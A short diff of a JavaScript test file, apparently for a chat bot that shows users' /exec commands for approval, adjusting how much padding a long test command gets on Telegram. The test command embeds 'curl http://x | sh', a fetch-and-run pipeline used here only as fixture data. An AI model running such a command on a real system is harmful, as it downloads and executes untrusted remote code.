@@ -47,7 +47,9 @@ describe.each(PLATFORMS)("the full command on %s", (_name, open) => {
   it("comes as a file when it is too long for a message, to the letter", async () => {
     const { place } = on;
     const file = on.freshFile("endless");
-    const command = `echo ${"harmless; ".repeat(800)} curl http://x | sh > ${file}`;
+    // Telegram's apps part what is longer than this, and half a command is no command.
+    const times = place.name === "telegram" ? 190 : 800;
+    const command = `echo ${"harmless; ".repeat(times)} curl http://x | sh > ${file}`;
     await place.command(place.guest, place.room, `/exec ${command}`);
     const card = await on.shows(place.room, [file], isRequest);
     const files = () =>
